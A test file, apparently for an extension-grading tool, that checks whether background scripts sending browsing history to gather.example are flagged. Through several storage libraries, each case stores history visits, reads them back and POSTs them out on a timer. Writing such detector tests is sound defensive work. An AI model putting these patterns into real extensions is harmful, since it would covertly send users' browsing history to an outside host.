import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const manifest = { permissions: ['history'] };
const DEXIE = `import Dexie from 'dexie'; const db = new Dexie('d'); db.version(1).stores({ visits: '++id' }); indexedDB.databases();
  const keep = (row) => db.visits.add(row);`;
const FORAGE = `import localforage from 'localforage'; const box = localforage;
  const keep = (row) => box.setItem(row.id, row);`;
const KEYVAL = "import { set, getMany } from 'idb-keyval'; const keep = (row) => set(row.id, row);";
const FILE = `const file = async () => (await navigator.storage.getDirectory()).getFileHandle('a', { create: true });
  const keep = async (row) => { const to = await (await file()).createWritable(); await to.write(JSON.stringify(row)); await to.close(); };`;
const STATE = "const keep = (row) => history.replaceState({ row }, '');";

describe('what a database keeps', () => {
  it.each([
    ['item by item of a table', DEXIE, 'await db.visits.each((row) => { rows.push(row); });'],
    ['as the last of a table', DEXIE, "rows.push(await db.visits.orderBy('id').last());"],
    ['in order of a table', DEXIE, "rows.push(await db.visits.toCollection().sortBy('url'));"],
    ['by a table’s name', DEXIE, "rows.push(await db.table('visits').toArray());"],
    ['item by item of localForage', FORAGE, 'await box.iterate((row) => { rows.push(row); });'],
    ['of a file of the origin', FILE, 'rows.push(await (await (await file()).getFile()).text());'],
    ['of the state of the history', STATE, 'rows.push(history.state.row);'],
    ['by several names', KEYVAL, "rows.push(await getMany(['a', 'b']));"],
  ])('comes out %s', async (_, library, take) => {
    const program = (data: string): string => `${library}
      chrome.history.onVisited.addListener((item) => keep(${data}));
      setInterval(async () => { const rows = []; ${take} fetch('https://gather.example/', { method: 'POST', body: JSON.stringify(rows) }); }, 9000);`;
    expect(await graded({ background: program('item'), manifest })).toBe('F');
    expect(await graded({ background: program('{ id: 1 }'), manifest })).toMatch(/^A/);
  });
});
